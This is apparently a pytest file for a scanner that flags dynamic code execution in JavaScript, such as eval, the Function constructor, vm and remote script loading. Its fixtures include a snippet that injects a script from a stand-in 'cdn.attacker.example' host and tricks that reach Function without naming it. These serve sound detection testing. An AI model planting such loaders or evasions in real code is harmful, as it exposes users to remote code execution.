from __future__ import annotations

import pytest

from scanner.behaviour.model import Capability

from ..snippets import details, found

DYN = Capability.DYNAMIC_CODE


@pytest.mark.parametrize(
    ("source", "detail"),
    [
        ("eval(code);", "eval"),
        ("(0, eval)(code);", "eval"),
        ("window.eval(code);", "eval"),
        ("eval('require');", "eval(literal)"),
        ("new Function('a', body)(1);", "Function"),
        ("Function(body)();", "Function"),
        ("new Function('a', 'return a + 1');", "Function(literal)"),
        ("const vm = require('vm'); vm.runInNewContext(code, {});", "vm"),
        ("vm.runInThisContext(src);", "vm"),
        ("const vm = require('vm'); new vm.Script(src);", "vm.Script"),
        ("const m = new module.constructor(); m._compile(src, 'x.js');", "module._compile"),
        ("require.extensions['.txt'] = hook;", "require.extensions"),
        ("setTimeout('tick()', 10);", "timer-string"),
        ("import('data:text/javascript,export default 1');", "data-import"),
    ],
)
def test_dynamic_code(source: str, detail: str) -> None:
    assert detail in details(source, DYN)


@pytest.mark.parametrize(
    "source",
    [
        "const g = Function('return this')();",
        "var g = new Function('return this;')();",
        "obj.eval(x); evaluate(x); myeval(x);",
        "function eval2() {} // eval(code)",
        "const s = 'eval(code)'; const r = /eval\\(/;",
        "setTimeout(() => tick(), 10);",
    ],
)
def test_global_object_idiom_methods_comments_and_callbacks_are_not_dynamic_code(
    source: str,
) -> None:
    assert not found(source, DYN)


def test_the_function_constructor_reached_without_its_name() -> None:
    assert details("new Function.constructor('require', body)(require);", DYN) == {"Function"}
    assert details("(function () {}).constructor(body)();", DYN) == {"Function"}
    assert details("Object.getPrototypeOf(async function () {}).constructor(body);", DYN) == {
        "Function"
    }


def test_a_script_element_with_a_remote_src_is_remote_code() -> None:
    source = (
        "var s = document.createElement('script');\n"
        "s.src = 'https://cdn.attacker.example/v' + v + '/kit.js';\n"
        "document.head.appendChild(s);\n"
    )
    assert details(source, DYN) == {"remote-script"}
    assert details("await import('https://esm.sh/x');", DYN) == {"remote-script"}
    image = "var i = document.createElement('img'); i.src = 'https://cdn.example/x.png';"
    assert not found(image, DYN)
    local = "var s = document.createElement('script'); s.src = './local.js';"
    assert not found(local, DYN)
